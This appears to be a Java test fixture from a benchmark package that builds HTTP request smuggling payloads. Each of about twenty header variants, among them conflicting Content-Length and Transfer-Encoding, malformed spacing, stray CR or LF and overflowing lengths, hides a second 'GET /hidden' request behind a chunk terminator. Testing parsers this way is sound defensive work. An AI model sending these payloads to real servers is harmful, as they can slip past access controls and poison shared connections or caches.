package io.essaim.benchmarks.abuse;

import java.util.List;

/** Requests that two parsers see two different things in (RFC 9112, sections 6 and 11.2), with another one after them. */
final class Smuggled {
    private static final String HIDDEN = "0\r\n\r\nGET /hidden HTTP/1.1\r\nHost: bench\r\n\r\n";

    private Smuggled() {}

    /** One for each way that is known. */
    static final List<String> REQUESTS = List.of(
                    "Content-Length: 6\r\nTransfer-Encoding: chunked",
                    "Transfer-Encoding: chunked\r\nContent-Length: 6",
                    "Content-Length: 6\r\nTransfer-Encoding: identity",
                    "Transfer-Encoding : chunked",
                    " Transfer-Encoding: chunked",
                    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
                    "Transfer-Encoding: identity, chunked",
                    "Transfer-Encoding: xchunked",
                    "Transfer-Encoding: \013chunked",
                    "Transfer-Encoding:\r\n chunked",
                    "X: y\nTransfer-Encoding: chunked",
                    "X: y\rTransfer-Encoding: chunked",
                    "Content-Length: 6\r\nContent-Length: 5",
                    "Content-Length: +6",
                    "Content-Length: 0x6",
                    "Content-Length: 6, 5",
                    "Content-Length : 6",
                    "Content-Length: 18446744073709551622",
                    "Host: elsewhere",
                    "Na(me: y")
            .stream()
            .map(header -> "POST / HTTP/1.1\r\nHost: bench\r\n" + header + "\r\n\r\n" + HIDDEN)
            .toList();
}
